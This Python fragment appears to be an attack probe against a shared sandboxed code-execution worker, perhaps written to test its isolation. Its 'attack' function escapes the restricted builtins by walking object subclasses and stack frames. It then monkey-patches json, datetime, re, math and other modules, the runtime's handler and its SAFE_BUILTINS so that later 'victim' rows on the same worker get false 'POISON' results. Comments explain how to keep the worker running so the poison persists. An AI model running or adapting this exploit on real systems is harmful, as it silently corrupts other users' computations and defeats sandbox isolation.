# Poison everything a later row on the same worker would use: modules (json, datetime, re, math, statistics,
# decimal, calendar, pytz, dateutil, babel), the runtime (its handler, injected names, restricted builtins),
# the real builtins, interpreter settings and sys.modules. Returns what it managed to change.
def attack():
    sys = reach_sys()
    changed = []

    def poison(label, fn):
        if attempt(fn).startswith("ok"):
            changed.append(label)

    m = sys.modules
    liar = lambda *a, **k: "POISON"
    # json is also the runtime's own codec: lie only about what a victim row encodes or decodes, so that the
    # worker keeps answering and the poison has a chance to stay.
    dumps, loads = m["json"].dumps, m["json"].loads
    poison("json.dumps", lambda: setattr_(m["json"], "dumps", lambda o, *a, **k: '"POISON"' if type(o) is dict and "text" in o else dumps(o, *a, **k)))
    poison("json.loads", lambda: setattr_(m["json"], "loads", lambda s, *a, **k: {"poison": True} if "text" in s and "op" not in s else loads(s, *a, **k)))
    poison("json.encoder", lambda: setattr_(m["json"].encoder, "c_make_encoder", None))
    poison("datetime.datetime", lambda: setattr_(m["datetime"], "datetime", m["datetime"].date))
    poison("datetime.timedelta", lambda: setattr_(m["datetime"], "timedelta", lambda *a, **k: 0))
    poison("re.sub", lambda: setattr_(m["re"], "sub", liar))
    poison("re.findall", lambda: setattr_(m["re"], "findall", lambda *a, **k: ["POISON"]))
    poison("re.compile", lambda: setattr_(m["re"], "_compile", liar))
    poison("math.sqrt", lambda: setattr_(m["math"], "sqrt", lambda x: -1.0))
    poison("math.pi", lambda: setattr_(m["math"], "pi", 3))
    poison("statistics.mean", lambda: setattr_(real_import("statistics"), "mean", lambda *a: -1))
    poison("decimal.prec", lambda: setattr_(real_import("decimal").getcontext(), "prec", 2))
    poison("calendar.firstweekday", lambda: real_import("calendar").setfirstweekday(6))
    poison("calendar.month_name", lambda: setattr_(real_import("calendar"), "month_name", ["POISON"] * 13))
    poison("pytz.timezone", lambda: setattr_(m["pytz"], "timezone", lambda *a: m["pytz"].utc))
    poison("dateutil.parser", lambda: setattr_(real_import("dateutil.parser"), "parse", liar))
    poison("babel.format_date", lambda: setattr_(real_import("babel.dates"), "format_date", liar))
    rt = None
    for module in list(m.values()):
        d = getattr_(module, "__dict__")
        if d is not None and "handle_json" in d and "SAFE_BUILTINS" in d:
            rt = d
    if rt is None:
        try:
            rt = runtime_from_frames()
        except Exception:
            rt = None
    if rt is None:
        # The runtime's own classes are among object's subclasses; their methods know its globals.
        for cls in ().__class__.__base__.__subclasses__():
            if cls.__name__ == "_DatetimeCompat":
                rt = cls.__call__.__globals__
    if rt is not None:
        poison("runtime.handle", lambda: rt.__setitem__("handle", lambda req: {"kind": "ok", "content": '"POISON"'}))
        poison("runtime.len", lambda: rt["SAFE_BUILTINS"].__setitem__("len", lambda x: -1))
        poison("runtime.sorted", lambda: rt["SAFE_BUILTINS"].__setitem__("sorted", lambda x: ["POISON"]))
        poison("runtime.new_namespace", lambda: rt.__setitem__("new_namespace", lambda row_id: {"__builtins__": {}}))
        poison("runtime.compat", lambda: setattr_(rt["_DatetimeCompat"], "__call__", liar))
    b = real_builtins()
    poison("builtins.len", lambda: b.__setitem__("len", lambda x: -1))
    poison("builtins.str", lambda: b.__setitem__("sorted", lambda x: ["POISON"]))
    poison("recursionlimit", lambda: sys.setrecursionlimit(60))
    poison("sys.modules.json", lambda: m.__setitem__("json", m["math"]))
    return changed


def setattr_(obj, name, value):
    real_builtins()["setattr"](obj, name, value)
    return name


def getattr_(obj, name):
    try:
        return real_builtins()["getattr"](obj, name)
    except Exception:
        return None


def runtime_from_frames():
    try:
        raise ValueError("probe")
    except ValueError as exc:
        frame = exc.__traceback__.tb_frame
    while frame is not None:
        if "handle_json" in frame.f_globals:
            return frame.f_globals
        frame = frame.f_back
    return None
